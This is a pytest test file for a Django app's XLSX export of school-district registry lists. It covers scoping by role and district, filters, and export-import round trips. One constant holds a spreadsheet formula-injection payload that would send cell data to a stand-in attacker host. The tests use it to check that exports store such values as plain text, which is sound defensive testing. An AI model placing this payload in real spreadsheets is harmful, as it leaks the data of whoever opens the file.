"""XLSX export of registry lists: current filters, scope, safe cells, and export → import round trips."""
import io

import pytest
from django.core.exceptions import PermissionDenied
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from clusters import imports, selectors
from clusters.filters import ClusterFilter
from clusters.models import ClusterMembership, Organisation, Teacher
from clusters.views.io import XlsxColumn, XlsxExportView
from core import xlsx
from tests.factories import (
    ClusterFactory,
    ClusterMembershipFactory,
    OrganisationFactory,
    TeacherFactory,
)

pytestmark = pytest.mark.django_db

ORG_HEADER = ["Код", "Краткое наименование", "Полное наименование", "Тип", "Район", "Адрес", "Email"]
TEACHER_HEADER = ["Табельный номер", "Код организации", "ФИО", "Должность", "Предметная область",
                  "Педагогический стаж", "Год рождения", "Квалификационная категория"]
MEMBERSHIP_HEADER = ["Год", "Кластер", "Код организации", "Методическая тема", "Уровень"]
INJECTION = '=HYPERLINK("http://evil.example/?leak="&A1,"Нажмите")'


def read_sheet(response, *, read_only=False):
    assert response.status_code == 200
    assert response["Content-Type"] == xlsx.XLSX_CONTENT_TYPE
    return load_workbook(io.BytesIO(response.content), read_only=read_only).worksheets[0]


def rows_of(sheet) -> list[list]:
    return [list(row) for row in sheet.iter_rows(values_only=True)]


def organisation_snapshot():
    return sorted(Organisation.objects.values_list(
        "district_id", "code", "short_name", "full_name", "kind", "address", "email", "is_active"))


def teacher_snapshot():
    return sorted(Teacher.objects.values_list(
        "organisation_id", "personnel_number", "full_name", "position", "subject_area",
        "experience_years", "birth_year", "category"))


def membership_snapshot():
    return sorted(ClusterMembership.objects.values_list(
        "cluster_id", "organisation_id", "theme", "tier", "project"))


@pytest.fixture
def hostile_kindergarten(district_a):
    return OrganisationFactory(
        district=district_a, code="0101", kind="kindergarten", short_name=INJECTION,
        full_name="+7 (812) 000-00-00", address="-минус в начале", email="",
    )


# --- organisations -----------------------------------------------------------------------------


def test_organisation_export_has_the_template_columns_and_only_own_district(
    methodist_client, school_a, school_b, school_other_district, hostile_kindergarten
):
    response = methodist_client.get(reverse("clusters:organisation_export"))

    sheet = read_sheet(response)
    rows = rows_of(sheet)
    assert rows[0] == ORG_HEADER
    assert sorted(row[0] for row in rows[1:]) == ["0101", "OU-A", "OU-B"]
    by_code = {row[0]: row for row in rows[1:]}
    assert by_code["OU-A"][1:5] == ["ГБОУ СОШ № 1", school_a.full_name, "школа", "Фрунзенский район"]
    assert by_code["0101"][3] == "ДОУ"
    assert sheet.freeze_panes == "A2"


def test_export_filename_and_content_type(methodist_client, school_a):
    response = methodist_client.get(reverse("clusters:organisation_export"))

    today = timezone.localdate().strftime("%Y-%m-%d")
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert response["Content-Disposition"] == f'attachment; filename="organisations_{today}.xlsx"'


def test_formula_like_text_is_written_as_plain_text(methodist_client, hostile_kindergarten):
    sheet = read_sheet(methodist_client.get(reverse("clusters:organisation_export")))

    row = next(r for r in sheet.iter_rows(min_row=2) if r[0].value == "0101")
    name, full_name, address = row[1], row[2], row[5]
    for cell, text in ((name, INJECTION), (full_name, "+7 (812) 000-00-00"), (address, "-минус в начале")):
        assert cell.data_type == "s"  # a formula would read back as "f"
        assert cell.value == text
        assert cell.quotePrefix is True
    assert row[0].value == "0101"  # a code stays text, leading zero kept


def test_tab_and_carriage_return_at_the_start_are_escaped_too():
    columns = [XlsxColumn("Текст"), XlsxColumn("Число")]
    content = xlsx.build_workbook(columns, [["\tтабуляция", -5], ["\r=1+1", 2.5], ["обычный текст", 0]])

    sheet = load_workbook(io.BytesIO(content)).worksheets[0]

    assert [(c.value, c.data_type, c.quotePrefix) for c in sheet["A"][1:]] == [
        ("\tтабуляция", "s", True), ("\r=1+1", "s", True), ("обычный текст", "s", False)]
    assert [(c.value, c.data_type) for c in sheet["B"][1:]] == [(-5, "n"), (2.5, "n"), (0, "n")]


def test_organisation_export_applies_the_list_filters(methodist_client, school_a, school_b, hostile_kindergarten):
    kindergartens = rows_of(read_sheet(methodist_client.get(reverse("clusters:organisation_export") + "?kind=kindergarten")))
    searched = rows_of(read_sheet(methodist_client.get(reverse("clusters:organisation_export") + "?q=СОШ")))

    assert [row[0] for row in kindergartens[1:]] == ["0101"]
    assert sorted(row[0] for row in searched[1:]) == ["OU-A", "OU-B"]


def test_list_page_links_to_the_export_with_its_filters(methodist_client, school_a):
    response = methodist_client.get(reverse("clusters:organisation_list") + "?kind=school")

    assert f'href="{reverse("clusters:organisation_export")}?kind=school"' in response.content.decode()


def test_methodist_of_another_district_exports_only_their_own(other_methodist_client, school_a, school_other_district):
    rows = rows_of(read_sheet(other_methodist_client.get(reverse("clusters:organisation_export"))))

    assert [row[0] for row in rows[1:]] == ["OU-C"]


# --- teachers ----------------------------------------------------------------------------------


@pytest.fixture
def teachers(school_a, school_b):
    return [
        TeacherFactory(organisation=school_a, personnel_number="007", full_name="Агапова Анна",
                       subject_area="@математика", experience_years=10, birth_year=1980, category="highest"),
        TeacherFactory(organisation=school_a, personnel_number="T-2", full_name="Борисов Борис",
                       subject_area="", experience_years=None, birth_year=None, category="none"),
        TeacherFactory(organisation=school_b, personnel_number="T-3", full_name="Волкова Вера",
                       subject_area="-1 как тема", experience_years=0, birth_year=2001, category="first"),
    ]


def test_teacher_export_keeps_numbers_as_numbers(methodist_client, teachers):
    sheet = read_sheet(methodist_client.get(reverse("clusters:teacher_export")))

    assert [c.value for c in sheet[1]] == TEACHER_HEADER
    agapova = next(r for r in sheet.iter_rows(min_row=2) if r[0].value == "007")
    assert [c.value for c in agapova] == ["007", "OU-A", "Агапова Анна", "учитель", "@математика", 10, 1980, "высшая"]
    assert (agapova[5].data_type, agapova[6].data_type) == ("n", "n")
    assert agapova[4].data_type == "s" and agapova[4].quotePrefix is True
    volkova = next(r for r in sheet.iter_rows(min_row=2) if r[0].value == "T-3")
    assert volkova[4].value == "-1 как тема" and volkova[4].data_type == "s" and volkova[4].quotePrefix is True
    assert volkova[5].value == 0 and volkova[5].data_type == "n"


def test_director_exports_the_whole_district(director_client, teachers):
    rows = rows_of(read_sheet(director_client.get(reverse("clusters:teacher_export"))))

    assert sorted(row[0] for row in rows[1:]) == ["007", "T-2", "T-3"]


def test_school_admin_exports_only_own_organisation_teachers(school_admin_client, teachers, school_b):
    own = rows_of(read_sheet(school_admin_client.get(reverse("clusters:teacher_export"))))
    asking_for_other = rows_of(read_sheet(
        school_admin_client.get(reverse("clusters:teacher_export") + f"?organisation={school_b.pk}")))

    assert sorted((row[0], row[1]) for row in own[1:]) == [("007", "OU-A"), ("T-2", "OU-A")]
    assert asking_for_other[1:] == []


def test_teacher_export_filters_by_organisation_and_category(methodist_client, teachers, school_b):
    url = reverse("clusters:teacher_export")

    of_school_b = rows_of(read_sheet(methodist_client.get(f"{url}?organisation={school_b.pk}")))
    highest = rows_of(read_sheet(methodist_client.get(f"{url}?category=highest")))

    assert [row[0] for row in of_school_b[1:]] == ["T-3"]
    assert [row[0] for row in highest[1:]] == ["007"]


def test_teacher_export_of_another_district_is_empty(other_methodist_client, teachers):
    response = other_methodist_client.get(reverse("clusters:teacher_export"))

    assert rows_of(read_sheet(response))[1:] == []


def test_teacher_export_runs_a_constant_number_of_queries(methodist_client, school_a, django_assert_max_num_queries):
    TeacherFactory.create_batch(40, organisation=school_a)

    # session, user, the count that decides between the file and an export job (core/exports.py), teachers with
    # their organisation, the ExportLog entry: 5, whatever the number of rows.
    with django_assert_max_num_queries(5):
        response = methodist_client.get(reverse("clusters:teacher_export"))

    assert len(rows_of(read_sheet(response))) == 41


# --- memberships -------------------------------------------------------------------------------


@pytest.fixture
def memberships(district_a, school_a, school_b):
    cluster_2021 = ClusterFactory(district=district_a, year=2021, name="Функциональная грамотность")
    cluster_2022 = ClusterFactory(district=district_a, year=2022, name="+Цифровая школа")
    return [
        ClusterMembershipFactory(cluster=cluster_2021, organisation=school_a, theme="Читательская грамотность",
                                 tier="top", project="Проект А"),
        ClusterMembershipFactory(cluster=cluster_2021, organisation=school_b, theme="Естественнонаучная",
                                 tier="lagging"),
        ClusterMembershipFactory(cluster=cluster_2022, organisation=school_a, theme="Цифровое портфолио",
                                 tier="synchronous"),
    ]


def test_membership_export_of_one_year(methodist_client, memberships):
    response = methodist_client.get(reverse("clusters:membership_export") + "?year=2021")

    rows = rows_of(read_sheet(response))
    assert rows[0] == MEMBERSHIP_HEADER
    assert sorted(rows[1:]) == [
        [2021, "Функциональная грамотность", "OU-A", "Читательская грамотность", "ТОП"],
        [2021, "Функциональная грамотность", "OU-B", "Естественнонаучная", "отстающая"],
    ]
    assert "cluster_memberships_" in response["Content-Disposition"]


def test_membership_export_of_all_years(methodist_client, memberships):
    rows = rows_of(read_sheet(methodist_client.get(reverse("clusters:membership_export"))))

    assert sorted((row[0], row[2]) for row in rows[1:]) == [(2021, "OU-A"), (2021, "OU-B"), (2022, "OU-A")]


def test_membership_export_of_another_district_is_empty(other_methodist_client, memberships):
    other = rows_of(read_sheet(other_methodist_client.get(reverse("clusters:membership_export"))))

    assert other[1:] == []


# --- export → import round trips ---------------------------------------------------------------


def _reimport(client, kind, response):
    file = SimpleUploadedFile("export.xlsx", response.content, content_type=xlsx.XLSX_CONTENT_TYPE)
    result = client.post(reverse("clusters:import"), {"kind": kind, "file": file})
    assert result.status_code == 302, [str(e) for e in result.context["result"].errors]
    return [str(m) for m in result.wsgi_request._messages][-1]


def test_organisations_round_trip_unchanged(methodist_client, school_a, school_b, hostile_kindergarten):
    before = organisation_snapshot()

    message = _reimport(methodist_client, "organisations",
                        methodist_client.get(reverse("clusters:organisation_export")))

    assert message == "Импорт «Организации» выполнен: создано 0, изменено 0, без изменений 3."
    assert organisation_snapshot() == before


def test_teachers_round_trip_unchanged(methodist_client, teachers):
    before = teacher_snapshot()

    message = _reimport(methodist_client, "teachers", methodist_client.get(reverse("clusters:teacher_export")))

    assert message == "Импорт «Педагоги» выполнен: создано 0, изменено 0, без изменений 3."
    assert teacher_snapshot() == before


def test_memberships_round_trip_unchanged(methodist_client, memberships):
    before = membership_snapshot()

    message = _reimport(methodist_client, "memberships",
                        methodist_client.get(reverse("clusters:membership_export")))

    assert message == "Импорт «Участие в кластерах» выполнен: создано 0, изменено 0, без изменений 3."
    assert membership_snapshot() == before


def test_edited_export_updates_only_the_edited_row(methodist_client, methodist, teachers):
    response = methodist_client.get(reverse("clusters:teacher_export"))
    workbook = load_workbook(io.BytesIO(response.content))
    sheet = workbook.worksheets[0]
    row = next(r for r in sheet.iter_rows(min_row=2) if r[0].value == "T-2")
    row[7].value = "первая"
    buffer = io.BytesIO()
    workbook.save(buffer)

    result = imports.import_teachers(user=methodist, file=io.BytesIO(buffer.getvalue()))

    assert result.summary == "создано 0, изменено 1, без изменений 2"
    assert Teacher.objects.get(personnel_number="T-2").category == "first"


# --- the generic building block ----------------------------------------------------------------


class ClusterExport(XlsxExportView):
    """What another list's export looks like: a scope, the list's filter and columns."""

    capability = "registry.view_district"
    scope = staticmethod(selectors.clusters_for_user)
    filterset_class = ClusterFilter
    filename_prefix = "clusters"
    columns = (
        XlsxColumn("Год", "year", width=8),
        XlsxColumn("Название", "name", width=40),
        XlsxColumn("Куратор", lambda cluster: cluster.curator.display_name if cluster.curator else "—"),
    )


def test_generic_export_view_filters_scopes_and_names_the_file(rf, methodist, other_methodist, district_a, district_b):
    ClusterFactory(district=district_a, year=2021, name="=Кластер 2021", curator=methodist)
    ClusterFactory(district=district_a, year=2022, name="Кластер 2022")
    ClusterFactory(district=district_b, year=2021, name="Чужой кластер")
    request = rf.get("/", {"year": "2021"})
    request.user = methodist

    response = ClusterExport.as_view()(request)

    sheet = read_sheet(response)
    assert rows_of(sheet) == [["Год", "Название", "Куратор"], [2021, "=Кластер 2021", "Смирнова М."]]
    assert sheet["B2"].data_type == "s"
    assert 'filename="clusters_' in response["Content-Disposition"]


def test_generic_export_view_refuses_roles_not_allowed(rf, school_admin):
    request = rf.get("/")
    request.user = school_admin

    with pytest.raises(PermissionDenied):
        ClusterExport.as_view()(request)
